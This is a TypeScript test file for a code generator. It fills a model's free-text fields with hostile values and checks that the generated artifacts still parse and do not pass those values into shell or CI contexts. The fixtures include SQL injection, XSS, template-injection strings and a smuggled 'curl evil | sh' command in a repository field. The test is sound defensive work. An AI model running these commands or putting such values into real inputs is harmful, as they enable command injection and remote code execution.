import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { regionIdsIn } from '../../kernel/generation/region.ts';
import { isObject, type Element } from '../../kernel/model/element.ts';
import { openModel } from '../../kernel/model/model.ts';
import { goldenModel } from '../../../test/fixtures/fixtures.ts';
import { assertParses } from '../../../test/support/chain/psm-to-artifact/generated-files.ts';
import { programTexts } from '../../../test/support/chain/psm-to-artifact/program-texts.ts';
import { psm } from '../psm/psm.ts';
import { generateArtifact } from './index.ts';

describe('the artifact of a model that holds hostile texts', () => {
  it('parses, opens no region of theirs and runs none of them', () => {
    const files = generateArtifact(openModel(psm, hostile(goldenModel('bookshop', 'psm'))), programTexts);
    files.forEach(assertParses);
    const regions = files.flatMap((file) => regionIdsIn(file.content));
    assert.ok(regions.length > 40);
    assert.deepEqual(
      regions.filter((id) => id.startsWith('x:')),
      [],
    );
    for (const { path, content } of files) {
      if (path.includes('.github') || path.endsWith('Dockerfile') || path.endsWith('.mjs'))
        assert.doesNotMatch(content, /curl evil/, `${path} carries text of the model into a shell`);
    }
  });
});

const texts = [
  'a"; DROP TABLE x; --',
  "it's */ /* `x` ${process.exit(1)}",
  'BEGIN PROTECTED x:y <!-- --> -->',
  'key: [value] # no',
  '${{ secrets.X }} $(curl evil) `curl evil`',
  'Größe | Übung \\ \u2028 end',
  '- list: *anchor &a',
  '@everyone <script>alert(1)</script>',
  '# BEGIN PROTECTED x:z',
];

const lines = ['one\n# BEGIN PROTECTED x:y\n---\nkind: Secret', '// BEGIN PROTECTED x:y\n```\n</script>'];

const reserved =
  'delete class Object Date Promise user rules hooks types publish default Record order services'.split(' ');

/** A copy of a deployment model in which every free text tries to break out of the file it lands in. */
function hostile(root: Element): Element {
  let count = 0;
  const next = (from: readonly string[]): string => from[(count += 1) % from.length] ?? '';
  const changed = (owner: Readonly<Record<string, unknown>>, key: string, value: unknown): unknown => {
    if (typeof value !== 'string') return copy(value);
    switch (key) {
      case 'name':
        return `${next(texts)} ${count}`;
      case 'description':
      case 'question':
      case 'rationale':
      case 'hint':
        return next(lines);
      case 'message':
      case 'choice':
      case 'claim':
      case 'packageName':
      case 'folder':
      case 'example':
      case 'tag':
      case 'baseUrl':
      case 'metricsPath':
      case 'registry':
        return next(texts);
      case 'repository':
        return 'repository"; curl evil | sh';
      case 'symbol':
        return `${next(reserved)}${count % 3 === 0 ? '' : String(count)}`;
      case 'path':
        return owner['eClass'] === 'Probe' ? value : value.replace(/books|orders/, 'b*o:o(k) "s"\'`${x}');
      default:
        return value;
    }
  };
  const copy = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(copy);
    if (!isObject(value) || value['eClass'] === 'TraceModel') return value;
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, changed(value, key, inner)]));
  };
  // A copy of an element with the same class and id is an element.
  return copy(root) as Element;
}
